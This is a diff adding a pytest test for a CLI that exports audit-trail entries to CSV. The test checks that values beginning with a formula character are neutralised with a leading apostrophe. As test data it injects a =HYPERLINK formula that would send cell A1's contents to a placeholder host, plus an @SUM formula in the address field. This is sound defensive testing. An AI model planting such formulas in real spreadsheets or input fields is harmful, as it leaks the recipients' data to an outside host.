@@ -7,7 +7,9 @@ then the triggers put back, so that only the chain and its anchor can tell.
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 import os
 import stat
@@ -371,6 +373,33 @@ def test_cli_list_output_file_is_private_and_audited(
         assert last.details["path"] == str(target) and last.details["rows"] == 4
         assert last.details["format"] == "csv"
     assert _verify(env).ok
+
+
+def test_cli_csv_export_leaves_no_formula_to_run(
+    env: Services, trail: dict[str, Any], capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    """A label that reached the trail as a formula must stay text in the spreadsheet.
+
+    Actor labels come from staff names (imported, or typed by an administrator) and the
+    address from the network: the secretary who opens the extract must not run them.
+    """
+    formula = '=HYPERLINK("https://example.invalid/?"&A1;"Ouvrir")'
+    _record(
+        env,
+        "sign_in",
+        establishment_id=trail["school"],
+        actor=Actor(label=formula, source_address="@SUM(1+1)"),
+    )
+    target = tmp_path / "journal.csv"
+    code, _, _ = run(
+        ["audit", "list", "--uai", UAI, "--format", "csv", "--output", str(target)], capsys
+    )
+    assert code == 0
+    header, newest, *_ = csv.reader(io.StringIO(target.read_text()), delimiter=";")
+    assert header[2:4] == ["Qui", "Depuis"]
+    assert newest[2:4] == ["'" + formula, "'@SUM(1+1)"]
+    code, out, _ = run(["audit", "list", "--uai", UAI, "--format", "csv"], capsys)
+    assert code == 0 and f"'{formula}".replace('"', '""') in out
 
 
 # -- events() and count() -----------------------------------------------------------------
